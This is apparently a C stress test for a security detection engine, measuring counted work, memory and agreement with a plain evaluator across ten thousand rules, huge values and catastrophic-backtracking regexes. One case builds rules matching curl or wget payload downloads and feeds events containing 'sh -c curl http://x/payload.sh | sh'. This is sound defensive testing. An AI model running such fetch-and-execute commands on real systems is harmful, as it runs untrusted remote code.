/*
 * worst: what is hardest for the engine is bounded, in counted work and in memory, and right beside the plain evaluator.
 *
 *   worst CATALOG        a line a case: figures, and ok or FAILED; ends with `N passed, N failed, 0 skipped`
 *
 * Bounds are on what the engine counts (candidates, predicates that were worked out), not on time: they hold on any machine.
 * Time is shown beside them, for people.
 */
#include "tests/differential/engine_check.h"

#include "catalog/made.h"

#include <inttypes.h>
#include <stdio.h>
#include <sys/resource.h>
#include <time.h>

struct worst {
	struct catalog fields;
	size_t passed, failed;
	/* of the case at hand */
	struct arena arena;
	struct catalog catalog;
	size_t room;
	struct engine *engine, *beside;
	struct evaluator *evaluator;
	struct arena event_arena;
	struct event event;
	struct facet *facet;
	size_t differences;
	uint64_t asked;           /* events */
	double seconds;
	struct buffer failures;
};

static double now(void)
{
	struct timespec at;
	clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &at);
	return (double)at.tv_sec + (double)at.tv_nsec / 1e9;
}

/* The highest so far. */
static size_t memory_kb(void)
{
	struct rusage usage;
	getrusage(RUSAGE_SELF, &usage);
	return (size_t)usage.ru_maxrss;
}

/* ---- a case ---- */

static void begin_case(struct worst *w)
{
	w->catalog = (struct catalog){.registry = w->fields.registry};
	w->room = 0;
	w->engine = w->beside = NULL;
	w->evaluator = evaluator_new();
	w->differences = 0;
	w->asked = 0;
	w->seconds = 0;
	buffer_clear(&w->failures);
}

static void add_condition(struct worst *w, const char *source)
{
	struct diagnostics d = {0};
	struct condition **place = arena_alloc(&w->arena, sizeof(*place));
	struct detection *detection = arena_alloc(&w->arena, sizeof(*detection));

	*place = condition_parse(&w->arena, &w->fields.scope, text_of(source), (struct place){"worst", 1, 1}, 0, (struct text){0}, &d);
	if (*place == NULL) {
		fprintf(stderr, "%s\n", source);
		diagnostics_print(&d, stderr);
		abort();
	}
	*detection = (struct detection){.conditions = place, .condition_count = 1};
	w->catalog.detections = arena_grow(&w->arena, w->catalog.detections, w->catalog.detection_count, sizeof(detection));
	w->catalog.detections[w->catalog.detection_count++] = detection;
}

static void make_engine(struct worst *w)
{
	w->engine = engine_new(&w->catalog);
	w->beside = engine_beside(w->engine);
}

static void begin_event(struct worst *w, const char *category, const char *action)
{
	const struct registry *registry = &w->catalog.registry;
	bool found;
	unsigned number = registry_category(registry, text_of(category), &found);
	event_begin(&w->event, &w->event_arena, registry);
	w->facet = event_add_facet(&w->event, number, registry_action(registry, number, text_of(action)));
}

static void set(struct worst *w, const char *field, struct text text)
{
	facet_set_text(&w->event, w->facet, registry_field(&w->catalog.registry, text_of(field)), text);
}

/* So many bytes, all the same, with an end. */
static struct text filled(struct worst *w, char byte, size_t length, const char *end)
{
	size_t tail = strlen(end);
	char *data = arena_alloc(&w->event_arena, length + tail + 1);
	memset(data, byte, length);
	memcpy(data + length, end, tail);
	return (struct text){data, length + tail};
}

/* Asks the engine, and where `compare` the evaluator too. */
static void ask(struct worst *w, bool compare)
{
	struct besides besides = {.near = false};
	struct difference difference;
	double before = now();

	event_share(&w->event);
	struct said said = engine_says(&w->event_arena, w->asked % 2 ? w->beside : w->engine, &besides, &w->event);
	w->seconds += w->asked ? now() - before : 0; /* the first one finds the plan unready */
	w->asked++;
	if (compare) {
		struct said oracle = oracle_says(&w->event_arena, w->evaluator, &w->catalog, &besides, &w->event);
		w->differences += !said_agree(&w->catalog, &besides, &oracle, &said, &difference);
	}
	arena_reset(&w->event_arena);
}

static void must(struct worst *w, bool holds, const char *what)
{
	if (!holds)
		buffer_printf(&w->failures, "%s%s", w->failures.length ? "; " : "", what);
}

static void end_case(struct worst *w, const char *name)
{
	struct engine_sums sums;
	engine_totals(w->engine, &sums);
	must(w, w->differences == 0, "it differs from the plain evaluator");
	bool good = w->failures.length == 0;
	printf("%-7s %-44s %6zu conditions %7" PRIu64 " events: %9.2f candidates %9.2f predicates each, %8.0f events/s%s%s\n", good ? "ok" : "FAILED",
		name, w->catalog.detection_count, w->asked, (double)sums.candidates / (double)w->asked, (double)sums.verified / (double)w->asked,
		w->seconds > 0 ? (double)(w->asked - 1) / w->seconds : 0, good ? "" : ": ", good ? "" : w->failures.data);
	w->passed += good;
	w->failed += !good;
	engine_free(w->engine);
	evaluator_free(w->evaluator);
	arena_free(&w->arena);
	arena_free(&w->event_arena);
}

static struct engine_sums sums_of(const struct worst *w)
{
	struct engine_sums sums;
	engine_totals(w->engine, &sums);
	return sums;
}

/* ---- cases ---- */

enum { MANY = 10000, SOME = 300 };

/* Process events of many programs; one in `turn` of them is one that a condition names. */
static void usual_event(struct worst *w, unsigned number)
{
	begin_event(w, "process", "exec");
	set(w, "process.executable", text_of(arena_printf(&w->event_arena, "/opt/vendor/bin/tool%u", number % 977)));
	set(w, "process.command_line", text_of(arena_printf(&w->event_arena, "tool%u --config /etc/vendor/%u.conf --verbose", number % 977, number % 31)));
	set(w, "user.name", number % 3 ? TEXT("ann") : TEXT("root"));
}

static void case_many_detections(struct worst *w)
{
	begin_case(w);
	for (unsigned i = 0; i < MANY; i++)
		add_condition(w, arena_printf(&w->arena, i % 3 ? "process where process.executable : \"*/tool-%u\" and user.name == \"root\""
						     : "process where process.command_line : \"*--option%u *\" and not user.name == \"ann\"", i));
	make_engine(w);
	for (unsigned i = 0; i < 400; i++) {
		usual_event(w, i);
		if (i % 4 == 0)
			set(w, "process.executable", text_of(arena_printf(&w->event_arena, "/usr/bin/tool-%u", i)));
		ask(w, i % 8 == 0);
	}
	must(w, sums_of(w).candidates < 400 * 100, "candidates grow with the detections");
	must(w, sums_of(w).verified < 400 * 200, "predicates grow with the detections");
	end_case(w, "ten thousand detections");
}

static void case_every_event_alerts(struct worst *w)
{
	begin_case(w);
	for (unsigned i = 0; i < SOME; i++)
		add_condition(w, arena_printf(&w->arena, "process where process.executable : \"/opt/*\" and process.command_line : \"*--verbose\" and"
						     " not process.name == \"none%u\"", i));
	make_engine(w);
	for (unsigned i = 0; i < 500; i++) {
		usual_event(w, i);
		ask(w, i % 8 == 0);
	}
	must(w, sums_of(w).verified <= 500 * (SOME + 2), "a predicate is worked out more than once");
	end_case(w, "every event meets every condition");
}

static void case_no_triggers(struct worst *w)
{
	begin_case(w);
	for (unsigned i = 0; i < SOME; i++)
		add_condition(w, arena_printf(&w->arena, i % 2 ? "process where process.command_line regex \"[a-z0-9]+ .*[%u-9]x?\""
						     : "process where process.command_line like \"?%u*\" or process.executable like \"*%u?\"", i % 9, i % 10));
	make_engine(w);
	for (unsigned i = 0; i < 200; i++) {
		usual_event(w, i);
		ask(w, i % 4 == 0);
	}
	must(w, sums_of(w).verified <= 200 * (uint64_t)(SOME * 2), "a predicate is worked out more than once");
	end_case(w, "only regex and leading wildcards");
}

static void case_rare_literals_in_patterns(struct worst *w)
{
	begin_case(w);
	for (unsigned i = 0; i < SOME * 10; i++)
		add_condition(w, arena_printf(&w->arena, i % 2 ? "process where process.command_line regex \".*(curl|wget).*/payload%u\\\\.sh.*\""
						     : "process where process.command_line like \"*secret%u*\"", i));
	make_engine(w);
	for (unsigned i = 0; i < 300; i++) {
		usual_event(w, i);
		if (i % 10 == 0)
			set(w, "process.command_line", text_of(arena_printf(&w->event_arena, "sh -c 'curl http://x/payload%u.sh | sh'", i + 1)));
		ask(w, i % 8 == 0);
	}
	must(w, sums_of(w).candidates < 300 * 100, "candidates grow with the detections");
	end_case(w, "regexes and leading wildcards with literals");
}

static void case_long_values(struct worst *w)
{
	static const char *const names[] = {"process.executable", "process.command_line", "process.name", "file.path", "user.name",
		"process.working_directory", "process.parent.command_line", "container.image.name"};
	begin_case(w);
	for (unsigned i = 0; i < SOME; i++)
		add_condition(w, arena_printf(&w->arena, "process where %s : (\"*aab%u*\", \"x%u*\", \"*y%u\") or startswith(%s, \"aaaaaaaa%u\")", names[i % 8], i, i,
						     i, names[(i + 3) % 8], i));
	make_engine(w);
	for (unsigned i = 0; i < 24; i++) {
		begin_event(w, "process", "exec");
		for (unsigned k = 0; k < 8; k++)
			set(w, names[k], filled(w, i % 3 ? 'a' : 'b', 65536, i % 2 ? arena_printf(&w->event_arena, "aab%u.", i * 8 + k) : ""));
		ask(w, i % 4 == 0);
	}
	must(w, sums_of(w).verified < 24 * (uint64_t)(SOME * 4), "a predicate is worked out more than once");
	end_case(w, "every value has 64 KiB");
	begin_case(w);
	for (unsigned i = 0; i < SOME; i++)
		add_condition(w, arena_printf(&w->arena, "process where process.command_line : \"*needle%u*\"", i));
	make_engine(w);
	for (unsigned i = 0; i < 2; i++) {
		begin_event(w, "process", "exec");
		set(w, "process.command_line", filled(w, 'n', 16 << 20, arena_printf(&w->event_arena, "needle%u", i + 7)));
		ask(w, false);
	}
	struct engine_cost cost;
	engine_cost_of(w->engine, 7, &cost);
	must(w, cost.candidates > 0, "the needle at the end was not found");
	end_case(w, "a value has 16 MiB");
}

static void case_many_arguments(struct worst *w)
{
	enum { ARGUMENTS = 10000 };
	unsigned field;
	begin_case(w);
	field = registry_field(&w->catalog.registry, TEXT("process.args"));
	for (unsigned i = 0; i < SOME; i++)
		add_condition(w, arena_printf(&w->arena, "process where process.args in (\"--a%u\", \"--b%u\") and not process.args == \"--c%u\"", i * 7, i, i * 31));
	make_engine(w);
	for (unsigned i = 0; i < 8; i++) {
		struct text *texts = arena_array(&w->event_arena, ARGUMENTS, sizeof(*texts));
		begin_event(w, "process", "exec");
		for (unsigned k = 0; k < ARGUMENTS; k++)
			texts[k] = text_of(arena_printf(&w->event_arena, "--%c%u", 'a' + (char)(k % 4), k * (i + 1)));
		facet_set_texts(&w->event, w->facet, field, texts, ARGUMENTS);
		ask(w, i % 2 == 0);
	}
	must(w, sums_of(w).verified <= 8 * (uint64_t)(SOME * 2), "a predicate is worked out more than once");
	end_case(w, "ten thousand arguments");
}

static void case_long_lists(struct worst *w)
{
	begin_case(w);
	for (unsigned i = 0; i < 20; i++) {
		struct buffer source = {0};
		buffer_string(&source, "process where process.name in (");
		for (unsigned k = 0; k < 5000; k++)
			buffer_printf(&source, "%s\"name%u\"", k ? ", " : "", k * 20 + i);
		buffer_string(&source, ")");
		add_condition(w, arena_strndup(&w->arena, source.data, source.length));
		buffer_free(&source);
	}
	make_engine(w);
	for (unsigned i = 0; i < 300; i++) {
		begin_event(w, "process", "exec");
		set(w, "process.name", text_of(arena_printf(&w->event_arena, "name%u", i * 977 % 120000)));
		ask(w, i % 4 == 0);
	}
	must(w, sums_of(w).verified <= 300 * 20, "a list is asked more than once");

	end_case(w, "lists of 5,000 literals");
}

/* Another set of fields each time: nothing that was worked out for one serves the next. */
static void case_many_signatures(struct worst *w)
{
	enum { SIGNATURES = 100000, BITS = 17 };
	unsigned fields[BITS], count = 0;
	begin_case(w);
	for (unsigned i = FIELD_FIRST_OTHER; i < w->catalog.registry.field_count && count < BITS; i++)
		if (w->catalog.registry.fields[i].type == TYPE_KEYWORD && !w->catalog.registry.fields[i].shared)
			fields[count++] = i;
	for (unsigned i = 0; i < SOME; i++)
		add_condition(w, arena_printf(&w->arena, "process where %.*s == \"a%u\" and %.*s != null",
						     TEXT_ARGS(w->catalog.registry.fields[fields[i % BITS]].name), i, TEXT_ARGS(w->catalog.registry.fields[fields[i / BITS % BITS]].name)));
	make_engine(w);
	size_t before = 0;
	for (unsigned i = 0; i < SIGNATURES; i++) {
		begin_event(w, "process", "exec");
		for (unsigned bit = 0; bit < BITS; bit++)
			if (i >> bit & 1)
				facet_set_text(&w->event, w->facet, fields[bit], TEXT("1"));
		ask(w, i % 500 == 0);
		if (i == SIGNATURES / 10)
			before = memory_kb();
	}
	must(w, memory_kb() < before + 8 * 1024, "memory grows with signatures");
	end_case(w, "100,000 signatures of fields");
}

/* ---- pathological expressions ---- */

static const char *const pathological[] = {
	"(a+)+b", "(a|aa)+c", "(a*)*d", "(.*a){12}e", "([a-z]+)*[0-9]", "(a|a)*f", "(a|[a-b])*g", ".*.*.*.*.*h", "(x+x+)+y", "(?:a?){40}a{40}i",
};
enum { PATHOLOGICAL = sizeof(pathological) / sizeof(pathological[0]) };

/* Which detections hit the limit, and how often: of `engines` engines that take turns. */
static void run_pathological(struct worst *w, unsigned engines, uint64_t limited[PATHOLOGICAL + 2])
{
	begin_case(w);
	for (unsigned i = 0; i < PATHOLOGICAL; i++)
		add_condition(w, arena_printf(&w->arena, "process where process.command_line regex \"%s\"", pathological[i]));
	add_condition(w, "process where process.command_line regex \".*end\""); /* nothing is wrong with these two */
	add_condition(w, "process where endswith(process.command_line, \"end\")");
	make_engine(w);
	for (unsigned i = 0; i < 12; i++) {
		begin_event(w, "process", "exec");
		set(w, "process.command_line", filled(w, i % 3 == 2 ? 'x' : 'a', (size_t)1 << (i + 5), i % 2 ? "end" : "bcdefgh0iy!"));
		if (engines == 1)
			w->asked &= ~UINT64_C(1); /* the first one, always */
		ask(w, true);
	}
	w->asked = 12;
	for (uint32_t i = 0; i < PATHOLOGICAL + 2; i++) {
		struct engine_cost cost;
		engine_cost_of(w->engine, i, &cost);
		limited[i] = cost.limited;
	}
}

static void case_pathological(struct worst *w)
{
	uint64_t limited[2][PATHOLOGICAL + 2];
	size_t marked = 0;

	run_pathological(w, 1, limited[0]);
	end_case(w, "pathological expressions, one engine");
	run_pathological(w, 2, limited[1]);
	for (size_t i = 0; i < PATHOLOGICAL; i++)
		marked += limited[1][i] > 0;
	must(w, marked >= 3, "hardly any expression hit the match limit");
	must(w, limited[1][PATHOLOGICAL] == 0 && limited[1][PATHOLOGICAL + 1] == 0, "a harmless one hit the match limit");
	must(w, memcmp(limited[0], limited[1], sizeof(limited[0])) == 0, "it depends on who asked");
	printf("        %zu of %d pathological expressions hit the match limit\n", marked, PATHOLOGICAL);
	end_case(w, "pathological expressions, two engines");
}

int main(int count, char **arguments)
{
	struct worst w = {.passed = 0};
	struct diagnostics d = {0};

	setvbuf(stdout, NULL, _IOLBF, 0);
	if (count != 2 || catalog_load(&w.fields, arguments[1], &d) != 0) {
		diagnostics_print(&d, stderr);
		return 2;
	}
	case_many_detections(&w);
	case_every_event_alerts(&w);
	case_no_triggers(&w);
	case_rare_literals_in_patterns(&w);
	case_long_values(&w);
	case_many_arguments(&w);
	case_long_lists(&w);
	case_many_signatures(&w);
	case_pathological(&w);
	printf("%zu passed, %zu failed, 0 skipped\n", w.passed, w.failed);
	buffer_free(&w.failures);
	catalog_free(&w.fields);
	diagnostics_free(&d);
	return w.failed > 0;
}
